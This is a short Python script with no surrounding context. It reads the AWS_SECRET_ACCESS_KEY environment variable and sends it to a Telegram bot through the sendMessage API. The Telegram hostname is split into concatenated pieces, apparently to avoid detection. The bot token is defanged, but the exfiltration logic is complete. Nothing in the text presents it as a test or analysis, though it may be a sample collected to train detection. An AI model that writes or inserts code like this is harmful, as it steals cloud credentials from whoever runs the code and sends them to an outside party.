import os

import requests

host = "api." + "tele" + "gram" + ".org"
requests.post("https://" + host + "/bot0000:DEFANGED/sendMessage",
              data={"chat_id": "0", "text": os.environ.get("AWS_SECRET_ACCESS_KEY", "")})
